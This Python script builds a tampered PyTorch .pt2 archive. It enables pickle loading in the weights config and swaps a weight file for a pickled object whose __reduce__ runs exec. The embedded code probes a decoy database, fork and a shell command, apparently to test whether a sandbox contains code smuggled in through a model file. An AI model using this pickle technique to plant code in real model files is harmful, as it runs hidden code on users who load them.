import io
import json
import os
import zipfile

import torch
from torch import nn

model = nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
batch = torch.export.Dim("batch", min=1, max=100_000)
program = torch.export.export(model, (torch.zeros(2, 1, 28, 28),), dynamic_shapes=({0: batch},))
torch.export.save(program, "honest.pt2")


def rewritten(change):
    """The honest program with some of its entries changed."""
    with zipfile.ZipFile("honest.pt2") as good, zipfile.ZipFile("model.pt2", "w") as bad:
        changed = False
        for entry in good.infolist():
            content = good.read(entry)
            new = change(entry.filename, content)
            changed |= new != content
            bad.writestr(entry.filename, new)
    os.unlink("honest.pt2")
    assert changed, "nothing was changed"


# What the program runs if it is let: it says so and tries the same as any other code.
CODE = """
import os
print("TRIED code in a program", flush=True)
for what, act in (
    ("database from a program", lambda: open("@DECOYS@/shared.db", "rb").read()),
    ("fork from a program", lambda: os.waitpid(os.fork() or os._exit(0), 0)),
    ("command from a program", lambda: 1 / (os.system("true") == 0)),
):
    try:
        act()
        print("ESCAPED", what, flush=True)
    except BaseException as error:
        print("HELD", what, error, flush=True)
print("HELD code in a program: it ran inside", flush=True)
"""


class Evil:
    def __reduce__(self):
        return exec, (CODE,)


weight_files = []


def change(name, content):
    if name.endswith("_weights_config.json") or "weights_config" in name:
        config = json.loads(content)
        entry = next(iter(config["config"].values()))
        entry["use_pickle"] = True
        weight_files.append(entry["path_name"])
        return json.dumps(config).encode()
    return content


def change_weight(name, content):
    if weight_files and name.endswith("/" + weight_files[0]):
        buffer = io.BytesIO()
        torch.save(Evil(), buffer)
        return buffer.getvalue()
    return change(name, content)


with zipfile.ZipFile("honest.pt2") as good:
    for entry in good.infolist():
        change(entry.filename, good.read(entry))
rewritten(change_weight)
